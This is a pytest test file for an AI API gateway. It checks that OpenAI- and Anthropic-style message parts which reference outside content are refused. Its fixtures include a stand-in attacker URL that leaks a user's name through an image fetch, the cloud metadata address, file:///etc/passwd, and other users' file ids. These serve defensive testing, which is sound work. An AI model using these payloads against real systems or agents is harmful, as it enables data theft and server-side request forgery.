"""Content by reference: an address the provider would fetch carries data out past the gateway, a file id reaches what others uploaded."""

from typing import Any

import pytest

from ostiary.core.errors import InvalidAction
from ostiary.protocols.anthropic.shape import check_count, check_messages
from ostiary.protocols.openai.shape import check_chat

STOLEN = "https://attacker.example/pixel.png?d=maria.muster"
PNG = "data:image/png;base64,iVBORw0KGgo="


def _openai(*parts: dict[str, Any]) -> None:
    check_chat({"model": "m", "messages": [{"role": "user", "content": list(parts)}]})


def _anthropic(*blocks: dict[str, Any]) -> None:
    body = {"model": "m", "messages": [{"role": "user", "content": list(blocks)}]}
    check_count(dict(body))
    check_messages(body | {"max_tokens": 1})


@pytest.mark.parametrize(
    "part",
    [
        {"type": "image_url", "image_url": {"url": STOLEN}},
        {"type": "image_url", "image_url": STOLEN},
        {"type": "image_url", "image_url": {"url": " data:x", "detail": "low"}},
        {"type": "image_url", "image_url": {"url": "http://169.254.169.254/latest/meta-data"}},
        {"type": "image_url", "image_url": {"url": "file:///etc/passwd"}},
        {"type": "video_url", "video_url": {"url": STOLEN}},
        {"type": "audio_url", "audio_url": {"url": STOLEN}},
        {"type": "text", "text": "x", "image_url": {"url": STOLEN}},
        {"type": "file", "file": {"file_id": "file-of-somebody-else"}},
        {"type": "file", "file": {"file_url": STOLEN}},
    ],
    ids=str,
)
def test_openai_content_by_reference_is_refused(part: dict[str, Any]) -> None:
    """R-B2: the provider fetches nothing on an agent's word, and no file is named that the gateway did not see."""
    with pytest.raises(InvalidAction) as refused:
        _openai({"type": "text", "text": "look"}, part)
    assert refused.value.code == "not_granted"


@pytest.mark.parametrize(
    "block",
    [
        {"type": "image", "source": {"type": "url", "url": STOLEN}},
        {"type": "document", "source": {"type": "url", "url": STOLEN}},
        {"type": "document", "source": {"type": "file", "file_id": "file_x"}},
        {"type": "container_upload", "file_id": "file_x"},
        {"type": "document", "source": {"type": "content", "content": [{"type": "image", "source": {"type": "url", "url": STOLEN}}]}},
        {"type": "tool_result", "tool_use_id": "t", "content": [{"type": "image", "source": {"type": "url", "url": STOLEN}}]},
    ],
    ids=str,
)
def test_anthropic_content_by_reference_is_refused(block: dict[str, Any]) -> None:
    """R-B2: the same on the other wire, in nested blocks too."""
    with pytest.raises(InvalidAction) as refused:
        _anthropic(block)
    assert refused.value.code == "not_granted"


def test_content_that_is_there_passes() -> None:
    """R-B2: pictures and files in the request itself, and addresses that are mere text or a tool's arguments."""
    _openai({"type": "image_url", "image_url": {"url": PNG, "detail": "low"}}, {"type": "text", "text": STOLEN})
    _openai({"type": "file", "file": {"filename": "a.pdf", "file_data": PNG}})
    _anthropic({"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBO"}})
    _anthropic({"type": "tool_use", "id": "t", "name": "fetch", "input": {"url": STOLEN, "file_id": 7}})
    _anthropic({"type": "search_result", "source": STOLEN, "title": "t", "content": [{"type": "text", "text": "x"}]})
